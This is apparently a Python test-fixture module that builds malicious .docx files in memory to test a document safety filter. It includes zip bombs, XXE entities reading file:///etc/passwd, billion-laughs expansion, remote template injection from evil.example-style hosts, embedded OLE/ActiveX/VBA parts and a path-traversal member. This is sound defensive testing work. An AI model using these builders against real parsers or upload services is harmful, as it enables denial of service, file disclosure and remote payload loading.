"""Hostile Word files built in memory, one builder per attack bot.documents.safety refuses, plus the plain ones it
must accept; shared by the tests and the benchmarks, and nothing here touches the disk."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache

from docx import Document
from docx.document import Document as WordDocument
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

MIB = 1024 * 1024
WML_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
XML_DECL = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


@cache
def valid_docx() -> bytes:
    """A plain python-docx document with one paragraph."""
    doc = Document()
    doc.add_paragraph("Summary of involvement: none.")
    return _saved(doc)


def external_hyperlink() -> bytes:
    """A document with an ordinary web link (TargetMode="External" on a hyperlink): must be accepted."""
    doc = Document()
    paragraph = doc.add_paragraph("See ")
    r_id = doc.part.relate_to("https://www.gov.uk/government/publications/working-together-to-safeguard-children--2",
                              RT.HYPERLINK, is_external=True)
    link, run, text = OxmlElement("w:hyperlink"), OxmlElement("w:r"), OxmlElement("w:t")
    link.set(qn("r:id"), r_id)
    text.text = "Working Together 2023"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    return _saved(doc)


@cache
def docx_with_image() -> bytes:
    """A document with an embedded picture (word/media/image1.png): must be accepted."""
    doc = Document()
    doc.add_picture(io.BytesIO(png()))
    return _saved(doc)


def png() -> bytes:
    """A 1 x 1 red PNG."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(
        b"IEND", b"")


@cache
def zip_bomb(size: int = 200 * MIB, name: str = "word/media/image1.png") -> bytes:
    """A valid document plus one member of `size` zeros, deflated to about a thousandth (streamed in 1 MiB chunks,
    so building it never holds the inflated bytes)."""
    buffer = io.BytesIO(valid_docx())
    zeros = bytes(MIB)
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w") as out:
        for _ in range(size // MIB):
            out.write(zeros)
    return buffer.getvalue()


def understated_bomb(size: int = 50 * MIB, declared: int = 2000) -> bytes:
    """word/document.xml inflates to `size` bytes but its headers declare `declared`, so every size and ratio
    check on the headers passes; only a capped read stops it."""
    buffer = io.BytesIO(_rezip(valid_docx(), {"word/document.xml": None}))
    spaces = b" " * MIB
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as zf, \
            zf.open("word/document.xml", "w") as out:
        out.write(XML_DECL + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">')
        for _ in range(size // MIB):
            out.write(spaces)
        out.write(b"</w:document>")
    return _declare_size(buffer.getvalue(), "word/document.xml", declared)


def overlapping_members(count: int = 50) -> bytes:
    """A hand-written zip whose `count` directory entries all point at one stored member (Fifield's overlapping
    zip bomb), so the members claim more bytes than the file holds while each ratio looks innocent."""
    data, name = random.Random(0).randbytes(64 * 1024), b"word/media/image1.png"
    sizes = struct.pack("<III", zlib.crc32(data), len(data), len(data))
    local = struct.pack("<IHHHHH", 0x04034B50, 20, 0, 0, 0, 0) + sizes + struct.pack("<HH", len(name), 0) + name
    directory = b"".join(
        struct.pack("<IHHHHHH", 0x02014B50, 20, 20, 0, 0, 0, 0) + sizes
        + struct.pack("<HHHHHII", len(entry), 0, 0, 0, 0, 0, 0) + entry
        for entry in (b"word/media/image%d.png" % (i + 1) for i in range(count)))
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(local) + len(data), 0)
    return local + data + directory + end


def many_members(count: int = 2001) -> bytes:
    """A valid document padded with `count` empty parts."""
    buffer = io.BytesIO(valid_docx())
    with zipfile.ZipFile(buffer, "a") as zf:
        for i in range(count):
            zf.writestr(f"customXml/pad{i}.txt", b"")
    return buffer.getvalue()


def duplicate_parts() -> bytes:
    """Two members named word/document.xml: a checker reading the first and a parser reading the last disagree."""
    buffer = io.BytesIO(valid_docx())
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as zf:
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns "Duplicate name", which is the point
        zf.writestr("word/document.xml", _read(doctype_entity(), "word/document.xml"))
    return buffer.getvalue()


def docm() -> bytes:
    """A macro-enabled document: the main part's content type says so (no vbaProject.bin in it)."""
    return _retype(valid_docx(), WML_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")


def dotx() -> bytes:
    """A Word template, not a document: python-docx refuses its main part."""
    return _retype(valid_docx(), WML_MAIN,
                   "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")


def with_vba_project(name: str = "word/vbaProject.bin") -> bytes:
    """A plain .docx content type with a VBA project slipped in."""
    return _rezip(valid_docx(), {name: b"\xcc\x61" + bytes(510)})


def doctype_entity() -> bytes:
    """word/document.xml declares an external entity (XXE) and uses it."""
    return _with_doctype(b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', b"&xxe;")


def billion_laughs() -> bytes:
    """[Content_Types].xml starts with the billion laughs entity expansion."""
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
    types = _read(valid_docx(), "[Content_Types].xml")
    types = types.replace(b"<Types ", b"<!DOCTYPE Types [" + entities + b"]>\n<Types ", 1)
    return _rezip(valid_docx(), {"[Content_Types].xml": types.replace(b"</Types>", b"&lol9;</Types>")})


def doctype_after_long_comment(padding: int = 16 * 1024) -> bytes:
    """The DOCTYPE comes after a long comment, past any fixed-size sniff of the first bytes."""
    return _with_doctype(b"<!-- " + b"x" * padding + b' -->\n<!DOCTYPE w:document SYSTEM "http://evil.example/d">\n')


def doctype_utf16() -> bytes:
    """word/document.xml in UTF-16 (legal OOXML), so the DOCTYPE is not there as ASCII bytes."""
    original = _read(valid_docx(), "word/document.xml").decode("utf-8")
    root = original[original.index("<w:document"):]
    text = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE w:document SYSTEM "file:///etc/passwd">\n' + root
    return _rezip(valid_docx(), {"word/document.xml": text.encode("utf-16")})


def external_relationship(kind: str = "attachedTemplate", target: str = "http://templates.example/evil.dotm",
                          ) -> bytes:
    """word/_rels/settings.xml.rels loads `kind` from `target` when Word opens the file."""
    rels = XML_DECL + (f'<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" Type="{REL_TYPES}{kind}" '
                       f'Target="{target}" TargetMode="External"/></Relationships>').encode()
    return _rezip(valid_docx(), {"word/_rels/settings.xml.rels": rels})


def dangling_relationship() -> bytes:
    """word/_rels/settings.xml.rels points inside the package at a part that is not there."""
    rels = XML_DECL + (f'<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" Type="{REL_TYPES}styles" '
                       'Target="missing.xml"/></Relationships>').encode()
    return _rezip(valid_docx(), {"word/_rels/settings.xml.rels": rels})


def external_template() -> bytes:
    """Remote template injection: an attachedTemplate fetched from http://templates.example/evil.dotm."""
    return external_relationship("attachedTemplate")


def ole_object() -> bytes:
    """An embedded OLE object (word/embeddings/oleObject1.bin) with its content type."""
    return _rezip(_with_types(valid_docx(), '<Default Extension="bin" '
                              'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
                  {"word/embeddings/oleObject1.bin": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)})


def ole_content_type() -> bytes:
    """Only the content type of an embedded OLE object, no part with a telling name."""
    return _with_types(valid_docx(), '<Override PartName="/word/media/image9.png" '
                       'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')


def activex() -> bytes:
    """An ActiveX control (word/activeX/activeX1.xml and its binary)."""
    control = XML_DECL + b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{0}"/>'
    docx = _with_types(valid_docx(), '<Override PartName="/word/activeX/activeX1.xml" '
                       'ContentType="application/vnd.ms-office.activeX+xml"/>')
    return _rezip(docx, {"word/activeX/activeX1.xml": control, "word/activeX/activeX1.bin": bytes(64)})


def path_traversal() -> bytes:
    """A member named to land outside the folder it would be extracted to."""
    return _rezip(valid_docx(), {"../../outside.txt": b"x"})


def truncated() -> bytes:
    """A valid document cut in half, as an interrupted upload leaves it."""
    data = valid_docx()
    return data[: len(data) // 2]


def bad_crc(name: str = "word/document.xml") -> bytes:
    """A valid document with one byte flipped in the middle of `name`'s compressed data."""
    data = bytearray(valid_docx())
    with zipfile.ZipFile(io.BytesIO(valid_docx())) as zf:
        info = zf.getinfo(name)
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    data[info.header_offset + 30 + name_length + extra_length + info.compress_size // 2] ^= 0xFF
    return bytes(data)


def password_protected() -> bytes:
    """What Word writes for a password-protected .docx: an OLE2 (CFB) container holding EncryptedPackage."""
    return _cfb(["EncryptionInfo", "EncryptedPackage"])


def old_doc() -> bytes:
    """A Word 97-2003 .doc: an OLE2 (CFB) container with no EncryptedPackage."""
    return _cfb(["WordDocument", "1Table"])


def not_a_zip() -> bytes:
    return b"hello"


def _saved(doc: WordDocument) -> bytes:
    buffer = io.BytesIO()
    doc.save(buffer)
    return buffer.getvalue()


def _read(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def _rezip(data: bytes, changes: Mapping[str, bytes | None]) -> bytes:
    """`data` with members replaced, added (at the end) or, for None, removed; deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            body = changes[name] if name in changes else source.read(name)
            if body is not None:
                target.writestr(name, body)
        for name, body in changes.items():
            if name not in source.namelist() and body is not None:
                target.writestr(name, body)
    return buffer.getvalue()


def _retype(data: bytes, old: str, new: str) -> bytes:
    types = _read(data, "[Content_Types].xml")
    return _rezip(data, {"[Content_Types].xml": types.replace(old.encode(), new.encode())})


def _with_types(data: bytes, declaration: str) -> bytes:
    types = _read(data, "[Content_Types].xml")
    return _rezip(data, {"[Content_Types].xml": types.replace(b"</Types>", declaration.encode() + b"</Types>")})


def _with_doctype(doctype: bytes, reference: bytes = b"") -> bytes:
    """word/document.xml with `doctype` between the XML declaration and the root, `reference` in the text."""
    original = _read(valid_docx(), "word/document.xml")
    root = original[original.index(b"<w:document"):].replace(b"none.</w:t>", b"none." + reference + b"</w:t>")
    return _rezip(valid_docx(), {"word/document.xml": XML_DECL + doctype + root})


def _declare_size(data: bytes, name: str, size: int) -> bytes:
    """`data` with `name`'s uncompressed size rewritten in its local and central headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info, position = zf.getinfo(name), zf.start_dir
    struct.pack_into("<I", out, info.header_offset + 22, size)
    while out[position:position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", out, position + 28)
        if out[position + 46:position + 46 + name_length] == name.encode():
            struct.pack_into("<I", out, position + 24, size)
        position += 46 + name_length + extra_length + comment_length
    return bytes(out)


def _cfb(streams: list[str]) -> bytes:
    """A minimal compound file (MS-CFB version 3): header, one FAT sector, one directory sector of empty streams."""
    end, free, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFF
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 0x1000, end, 0, end, 0)
              + struct.pack("<109I", 0, *[free] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, end, *[free] * 126)
    names = ["Root Entry", *streams]
    entries = b""
    for i, name in enumerate(names):
        encoded = (name + "\0").encode("utf-16-le")
        kind, child = (5, 1) if i == 0 else (2, no_stream)
        sibling = i + 1 if 0 < i < len(names) - 1 else no_stream
        entries += (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, no_stream, sibling, child)
                    + bytes(16 + 4 + 16) + struct.pack("<IQ", end, 0))
    return header + fat + entries.ljust(512, b"\0")
